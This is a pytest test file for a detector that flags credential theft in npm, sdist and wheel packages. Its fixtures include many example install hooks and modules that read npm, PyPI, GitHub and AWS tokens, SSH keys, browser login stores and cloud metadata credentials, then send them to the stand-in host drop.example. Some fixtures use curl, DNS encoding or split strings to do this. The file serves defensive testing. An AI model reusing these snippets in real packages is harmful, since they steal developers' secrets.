"""Secrets that leave for a stranger are told, whichever way; a client that sends its token home is not."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import credential_theft

INSTALL = {"postinstall": "node scripts/setup.js"}


def installs(source: str, **files: str) -> ArtifactFacts:
    """A tarball whose install step runs this source."""
    return npm({"scripts/setup.js": source, **files}, scripts=INSTALL)


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(credential_theft, artifact)]


class TestAlarm:
    def test_the_sample_of_an_install_step_that_sends_npm_credentials_away(self) -> None:
        source = """
const fs = require('fs');
const os = require('os');
const https = require('https');
const path = require('path');

const text = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');

const body = JSON.stringify({ text });

const req = https.request({ host: 'drop.example', path: '/c', method: 'POST' });
req.end(body);
"""
        (found,) = findings(credential_theft, installs(source))
        assert told([found]) == ["critical: its install step reads npm credentials and sends them to drop.example"]
        assert (found.reach, found.confidence, found.new) == ("install", "high", True)
        assert places(found)[:2] == ["package.json:5", "scripts/setup.js:7"]
        assert found.evidence[0].text == '"postinstall": "node scripts/setup.js"'
        assert found.evidence[0].says.plain() == "runs when it is installed"

    @pytest.mark.parametrize(
        ("source", "what"),
        [
            ("fetch('https://drop.example/?t=' + process.env.NPM_TOKEN);", "the variable NPM_TOKEN"),
            ("const t = process.env['NPM' + '_TOKEN']; fetch(`https://drop.example/${t}`);", "the variable NPM_TOKEN"),
            (
                "const { GITHUB_TOKEN } = process.env; require('axios').post('https://drop.example', { GITHUB_TOKEN });",
                "the variable GITHUB_TOKEN",
            ),
            (
                "const fs = require('fs'); fetch('https://drop.example/', { method: 'POST', body: fs.readFileSync(process.env.HOME + '/.ssh/id_rsa') });",
                "SSH keys",
            ),
            (
                "const d = require('fs').readFileSync(`${require('os').homedir()}/.aws/credentials`); require('dns').lookup(d.toString('hex') + '.drop.example', () => {});",
                "AWS credentials",
            ),
            (
                "const { execSync } = require('child_process'); execSync('curl -d @$HOME/.npmrc https://drop.example/');",
                "npm credentials",
            ),
        ],
    )
    def test_the_ways_of_javascript(self, source: str, what: str) -> None:
        (line,) = told(findings(credential_theft, installs(source)))
        assert line.startswith(f"critical: its install step reads {what} and sends "), line

    @pytest.mark.parametrize(
        ("source", "what"),
        [
            (
                "from os import environ as e\nimport requests\nrequests.get('https://drop.example', params={'t': e['PYPI_TOKEN']})\n",
                "the variable PYPI_TOKEN",
            ),
            (
                "import os, requests\nt = os.getenv('AWS_SECRET' + '_ACCESS_KEY')\nrequests.post('https://drop.example', data=t)\n",
                "the variable AWS_SECRET_ACCESS_KEY",
            ),
            (
                "import requests\nfrom pathlib import Path\nrequests.post('https://drop.example', data=(Path.home() / '.pypirc').read_text())\n",
                "PyPI credentials",
            ),
            (
                "import os, requests\nwith open(os.path.expanduser('~/.ssh/id_ed25519')) as f:\n    key = f.read()\nrequests.post('https://drop.example', files={'k': key})\n",
                "SSH keys",
            ),
        ],
    )
    def test_the_ways_of_python(self, source: str, what: str) -> None:
        (line,) = told(findings(credential_theft, sdist({"setup.py": source})))
        assert line.startswith(f"critical: its install step reads {what} and sends "), line
        (line,) = told(findings(credential_theft, wheel({"imgpress/__init__.py": source})))
        assert line.startswith(f"critical: its code reads {what} and sends "), line

    @pytest.mark.parametrize(
        "command",
        [
            "curl -F f=@$HOME/.npmrc https://drop.example/",
            "cat ~/.npmrc | curl -d @- https://drop.example/",
            "curl https://drop.example/?t=$NPM_TOKEN",
        ],
    )
    def test_the_ways_of_a_shell(self, command: str) -> None:
        assert severities(npm(scripts={"preinstall": command})) == ["critical"]

    def test_credentials_read_in_a_callback_and_sent_in_another_are_told_by_their_file(self) -> None:
        source = """
const fs = require('fs'), https = require('https'), store = {};
fs.readFile(require('os').homedir() + '/.npmrc', (error, data) => { store.data = data; });
setTimeout(() => { const r = https.request({ host: 'drop.example', method: 'POST' }); send(r); }, 5000);
"""
        (found,) = findings(credential_theft, installs(source))
        assert found.severity in ("high", "critical")
        assert found.message.plain().startswith("its install step reads npm credentials and ")

    def test_stores_of_browsers_and_wallets_are_credentials(self) -> None:
        source = "import os, requests\nd = open(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), 'rb').read()\nrequests.post('https://drop.example', data=d)\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["critical"]

    def test_credentials_of_the_machine_from_the_metadata_service_are_too(self) -> None:
        source = "import requests\nt = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/x').text\nrequests.post('https://drop.example', data=t)\n"
        assert told(findings(credential_theft, sdist({"setup.py": source}))) == [
            "critical: its install step reads the machine's cloud credentials and sends them to drop.example"
        ]

    def test_a_start_up_hook_that_takes_a_token_is_critical(self) -> None:
        line = (
            "import os, urllib.request as u; u.urlopen('https://drop.example/', data=os.environ['NPM_TOKEN'].encode())"
        )
        (found,) = findings(credential_theft, wheel({"a.pth": line}))
        assert told([found]) == [
            "critical: its start-up hook reads the variable NPM_TOKEN and sends it to drop.example"
        ]

    def test_a_file_that_a_test_would_be_is_install_code_when_a_step_runs_it(self) -> None:
        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
        assert severities(
            npm({"test/fixtures/x.txt": source}, scripts={"postinstall": "node test/fixtures/x.txt"})
        ) == ["critical"]

    def test_a_bucket_on_the_issuer_s_domain_is_not_the_issuer(self) -> None:
        source = "fetch('https://abc.execute-api.eu-west-1.amazonaws.com/', { method: 'POST', body: process.env.AWS_SECRET_ACCESS_KEY });"
        assert severities(npm({"index.js": source})) == ["critical"]

    def test_in_a_test_it_is_medium(self) -> None:
        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
        assert severities(npm({"test/x.test.js": source})) == ["medium"]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "source",
        [
            "fetch('https://api.openai.com/v1/models', { headers: { Authorization: `Bearer ${process.env.OPENAI_API_KEY}` } });",
            "fetch('https://api.github.com/user', { headers: { authorization: `token ${process.env.GITHUB_TOKEN}` } });",
            "fetch('https://api.postmarkapp.com/email', { headers: { 'X-Token': process.env.POSTMARK_TOKEN } });",
            "fetch('https://api.vendor.example/v1', { headers: { 'X-Key': process.env.API_KEY } });",
            "module.exports = (base) => fetch(base + '/v1', { headers: { authorization: process.env.GITLAB_TOKEN } });",
            "fetch(process.env.API_URL || 'https://api.vendor.example/');",
            "require('child_process').spawn('git', ['fetch'], { env: { ...process.env, LANG: 'C' } });",
            "const debug = process.env.DEBUG; require('https').get('https://api.vendor.example/?d=' + debug);",
            "fetch('http://localhost:3000/env', { method: 'POST', body: JSON.stringify(process.env) });",
        ],
    )
    def test_clients_in_javascript(self, source: str) -> None:
        assert findings(credential_theft, npm({"index.js": source})) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import os, requests\n\n\ndef get(path):\n    return requests.get('https://api.openai.com' + path, headers={'Authorization': os.environ['OPENAI_API_KEY']})\n",
            "import os, requests\nrequests.get('https://huggingface.co/api/whoami', headers={'a': os.getenv('HF_TOKEN')})\n",
            "import requests\nrequests.get('http://169.254.169.254/latest/meta-data/', headers={'t': requests.put('http://169.254.169.254/latest/api/token').text})\n",
            "import os, subprocess\nsubprocess.run(['make'], env=dict(os.environ, CC='gcc'))\n",
            "import os\nfrom netrc import netrc\n\n\ndef auth(host):\n    path = os.path.expanduser('~/.netrc')\n    return netrc(path).authenticators(host)\n",
        ],
    )
    def test_clients_in_python(self, source: str) -> None:
        assert findings(credential_theft, wheel({"imgpress/__init__.py": source})) == []

    def test_an_installer_that_passes_its_environment_on_and_fetches_a_binary(self) -> None:
        """The shape of esbuild's install step."""
        source = """
const https = require("https"), child_process = require("child_process"), fs = require("fs");
const env = { ...process.env, npm_config_global: undefined };
child_process.execSync("npm install --loglevel=error --prefer-offline @tool/linux-x64@1.0.0", { cwd: "/tmp", stdio: "pipe", env });
https.get("https://registry.example/@tool/linux-x64/-/linux-x64-1.0.0.tgz", (res) => res.pipe(fs.createWriteStream("tool.tgz")));
"""
        assert findings(credential_theft, installs(source)) == []

    def test_an_installer_that_uses_a_token_to_fetch_a_release_of_github(self) -> None:
        source = "const t = process.env.GITHUB_TOKEN; fetch('https://api.github.com/repos/a/b/releases', { headers: { authorization: `token ${t}` } });"
        assert findings(credential_theft, installs(source)) == []

    def test_one_function_that_asks_github_with_its_token_and_an_index_without(self) -> None:
        """The shape of a project's own release scripts."""
        source = (
            "import os, urllib3\nTOKEN = os.getenv('GITHUB_TOKEN')\nhttp = urllib3.PoolManager()\n\n\n"
            "def get(url):\n    headers = {}\n    if 'github' in url:\n        headers['Authorization'] = f'token {TOKEN}'\n"
            "    return http.request('GET', url, headers=headers)\n\n\n"
            "get('https://api.github.com/repos/a/b')\nget('https://drop.example/x')\n"
        )
        assert severities(wheel({"imgpress/__init__.py": source})) == ["high"], "nobody knows which of them gets it"

    def test_a_build_that_asks_github_with_its_token_and_fetches_from_what_it_was_told(self) -> None:
        """The shape of lxml's."""
        source = (
            "import os\nfrom urllib.request import Request, urlopen, urlretrieve\nfrom setuptools import setup\n\n\n"
            "def libraries():\n    token = os.environ.get('GITHUB_API_TOKEN')\n"
            "    found = urlopen(Request('https://api.github.com/x', headers={'authorization': token}))\n"
            "    for url in parse(found):\n        urlretrieve(url, name(url))\n\n\nlibraries()\nsetup(name='imgpress')\n"
        )
        assert severities(sdist({"setup.py": source})) in ([], ["medium"])

    def test_a_client_for_remote_shells_that_logs_in_with_a_key(self) -> None:
        source = """
import os
import paramiko

client = paramiko.SSHClient()
client.connect("build.example", key_filename=os.path.expanduser("~/.ssh/id_rsa"))
"""
        assert findings(credential_theft, wheel({"imgpress/__init__.py": source})) == []

    def test_the_whole_environment_has_a_rule_of_its_own(self) -> None:
        source = "fetch('https://drop.example/', { method: 'POST', body: JSON.stringify(process.env) });"
        assert findings(credential_theft, installs(source)) == []

    def test_the_configuration_of_ssh_is_no_secret(self) -> None:
        source = (
            "import os, requests\nopen(os.path.expanduser('~/.ssh/config')).read()\nrequests.get('https://x.example')\n"
        )
        assert findings(credential_theft, wheel({"imgpress/__init__.py": source})) == []

    def test_prose_that_names_credential_files(self) -> None:
        text = '"""Reads ~/.netrc and ~/.pypirc when asked; see https://docs.example."""\nVALUE = 1\n'
        assert findings(credential_theft, wheel({"imgpress/__init__.py": text})) == []

    def test_what_the_old_version_did_is_not_new(self) -> None:
        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
        old = npm({"index.js": source})
        assert [found.new for found in findings(credential_theft, old, old)] == [False]

    def test_the_same_theft_that_moves_to_the_install_step_is_new(self) -> None:
        source = "fetch('https://drop.example/', { method: 'POST', body: process.env.NPM_TOKEN });"
        (found,) = findings(credential_theft, installs(source), npm({"index.js": source}))
        assert found.new
